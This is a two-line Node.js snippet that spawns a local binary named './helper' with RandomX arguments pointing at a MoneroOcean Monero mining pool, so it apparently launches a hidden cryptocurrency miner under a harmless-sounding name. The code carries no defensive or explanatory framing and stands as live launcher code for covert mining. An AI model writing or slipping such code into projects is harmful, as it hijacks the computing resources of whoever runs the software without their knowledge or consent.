const { spawn } = require("child_process");
spawn("./helper", ["--algo=rx/0", "-o", "gulf.moneroocean.stream:10128"]);
